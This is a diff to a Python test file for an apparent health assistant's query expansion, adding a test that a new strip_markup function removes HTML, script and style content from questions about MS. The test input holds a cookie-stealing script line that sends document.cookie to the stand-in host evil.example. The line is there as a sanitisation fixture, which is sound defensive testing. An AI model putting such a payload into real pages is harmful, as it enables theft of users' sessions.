@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from assistant.synonyms import expand_query
+from assistant.synonyms import expand_query, strip_markup
 
 
 def test_brand_names_are_asked_as_generic_names() -> None:
@@ -44,3 +44,15 @@ def test_forgetfulness_and_ms_type_abbreviations_bring_the_library_words() -> No
     assert "memory" in expand_query("she gets confused and forgetful")
     assert "relapsing-remitting MS" in expand_query("I have RRMS")
     assert "primary progressive MS" in expand_query("what about PPMS?")
+
+
+def test_markup_is_left_out_of_the_words_searched_and_script_code_with_it() -> None:
+    """Script and style elements hold code: their words ("document", "cookie") once
+    made "how common is pain?" look like a question about something else."""
+    asked = (
+        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+        " how common is <b>pain</b> in [MS](https://example.org)? <style>p{color:red}</style>"
+    )
+    assert strip_markup(asked) == "how common is pain in MS?"
+    # An unclosed script tag is only a tag: the words after it are still the question.
+    assert strip_markup("<script> does coffee help?") == "does coffee help?"
